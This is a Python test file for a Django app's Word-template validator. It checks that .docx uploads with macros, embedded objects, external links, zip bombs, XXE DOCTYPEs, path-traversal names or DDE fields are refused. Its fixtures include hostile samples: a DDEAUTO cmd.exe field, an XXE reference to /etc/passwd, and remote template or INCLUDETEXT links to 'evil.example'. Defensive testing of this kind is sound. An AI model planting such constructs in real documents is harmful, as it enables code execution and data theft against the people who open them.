"""What a template may not be: macros, objects, links outside, bombs, files that are no .docx."""

import io
import zipfile

import pytest
from django.core.exceptions import ValidationError

from mentorship.documents.gate import check_docx
from tests.documents.word import template, with_parts

RELS = "word/_rels/document.xml.rels"
TYPES = "[Content_Types].xml"
MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
MACRO = "application/vnd.ms-word.document.macroEnabled.main+xml"
BASE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def relation(kind, target, mode=""):
    extra = f' TargetMode="{mode}"' if mode else ""
    added = f'<Relationship Id="rX" Type="{BASE}/{kind}" Target="{target}"{extra}/>'
    return ("</Relationships>", f"{added}</Relationships>")


def field(instruction):
    begin, end = (f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>' for kind in ("begin", "end"))
    return f"{begin}<w:r><w:instrText>{instruction}</w:instrText></w:r>{end}"


def in_text(xml):
    return with_parts(template("Приказ"), {}, {"word/document.xml": ("<w:p>", f"<w:p>{xml}")})


def refusal(data, name="шаблон.docx"):
    with pytest.raises(ValidationError) as error:
        check_docx(data, name)
    return " ".join(error.value.messages)


def test_plain_document_passes():
    check_docx(template("Приказ"), "Шаблон.DOCX")
    check_docx(in_text(field(" PAGE ") + field("NUMPAGES")), "шаблон.docx")


@pytest.mark.parametrize(
    ("name", "words"),
    [
        ("приказ.docm", "документ с макросами"),
        ("приказ.dotm", "документ с макросами"),
        ("приказ.doc", "шаблон — это документ Word (.docx)"),
        ("приказ.pdf", "шаблон — это документ Word (.docx)"),
        ("приказ", "шаблон — это документ Word (.docx)"),
    ],
)
def test_other_names_are_refused(name, words):
    assert words in refusal(template("Приказ"), name)


def test_empty_huge_and_other_files_are_refused():
    assert "ноль байт" in refusal(b"")
    assert "больше 5 МБ" in refusal(b"PK" + b"0" * (5 * 1024 * 1024))
    assert "не документ Word" in refusal(b"%PDF-1.7")
    assert "не удаётся прочитать" in refusal(b"PK\x03\x04 torn")
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w") as archive:
        archive.writestr("a.txt", "x")
    assert "не документ Word" in refusal(stream.getvalue())


@pytest.mark.parametrize(
    ("parts", "words"),
    [
        ({"word/vbaProject.bin": b"x"}, "встроенный объект или макрос («word/vbaProject.bin»)"),
        ({"word/embeddings/oleObject1.bin": b"x"}, "встроенный объект"),
        ({"word/embeddings/book.xlsx": b"x"}, "встроенный объект"),
        ({"word/activeX/activeX1.xml": "<a/>"}, "встроенный объект"),
        ({"word/afchunk.mht": b"x"}, "встроенный объект"),
        ({"word/chunk.html": b"x"}, "встроенный объект"),
        ({"../../etc/cron.d/x": b"x"}, "недопустимыми именами"),
        ({"/etc/x": b"x"}, "недопустимыми именами"),
        ({"C:/x": b"x"}, "недопустимыми именами"),
        ({"WORD/document.xml": b"x"}, "две части с одним именем"),
        ({f"word/x{number}.xml": "<a/>" for number in range(200)}, "слишком много частей"),
        ({"word/x.xml": "<!DOCTYPE a [<!ENTITY b 'c'>]><a>&b;</a>"}, "DOCTYPE"),
        ({"word/x.xml": "<!DOCTYPE a SYSTEM 'file:///etc/passwd'><a/>"}, "DOCTYPE"),
        ({"word/x.xml": "<a"}, "не удаётся прочитать"),
        ({"word/x.xml": "<!DOCTYPE a><a/>".encode("utf-16")}, "DOCTYPE"),
        ({"word/big.xml": b"<a>" + b" " * (4 * 1024 * 1024) + b"</a>"}, "слишком большим"),
        ({"word/media/bomb.png": b"\0" * (31 * 1024 * 1024)}, "слишком большим"),
    ],
    ids=lambda value: value if isinstance(value, str) else "",
)  # fmt: skip
def test_archives_with_more_than_text_are_refused(parts, words):
    assert words in refusal(with_parts(template("Приказ"), parts))


@pytest.mark.parametrize(
    ("member", "change", "words"),
    [
        (
            RELS,
            relation("attachedTemplate", "http://evil.example/x.dotm", "External"),
            "на другой файл или сайт",
        ),
        (RELS, relation("image", "file:///etc/passwd", "External"), "«file:///etc/passwd»"),
        (RELS, relation("hyperlink", "https://evil.example", "External"), "на другой файл или сайт"),
        (RELS, relation("oleObject", "media/x"), "встроенный объект или макрос (oleObject)"),
        (RELS, relation("aFChunk", "media/x"), "(aFChunk)"),
        (RELS, relation("subDocument", "media/x"), "(subDocument)"),
        (TYPES, (MAIN, MACRO), "макросы"),
        (TYPES, (MAIN, "application/xml"), "не обычный документ Word"),
    ],
)
def test_links_and_types_are_refused(member, change, words):
    assert words in refusal(with_parts(template("Приказ"), {}, {member: change}))


@pytest.mark.parametrize(
    "xml",
    [
        field("DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe"),
        field(' INCLUDETEXT "http://evil.example/x" '),
        field("INCLUDEPICTURE x"),
        field("LINK Excel.Sheet"),
        field("HYPERLINK x"),
        '<w:fldSimple w:instr="DDE cmd"/>',
        field("D</w:instrText><w:instrText>DE x"),
        "<w:r><w:instrText>DDE x</w:instrText></w:r>",
    ],
)
def test_fields_that_fetch_are_refused(xml):
    assert "поле Word" in refusal(in_text(xml))


@pytest.mark.parametrize("xml", ["<w:object/>", "<w:altChunk/>", "<w:control/>"])
def test_objects_in_the_text_are_refused(xml):
    assert "встроенный объект" in refusal(in_text(xml))


def test_address_in_a_drawing_is_refused():
    image = '<v:imagedata xmlns:v="urn:v" xmlns:o="urn:o" o:href="http://evil.example/x.png"/>'
    drawing = f"<w:r><w:pict>{image}</w:pict></w:r>"
    assert "«http://evil.example/x.png»" in refusal(in_text(drawing))


def test_password_is_refused():
    data = bytearray(template("Приказ"))
    at = data.index(b"PK\x01\x02")
    data[at + 8] |= 1
    assert "паролем" in refusal(bytes(data))
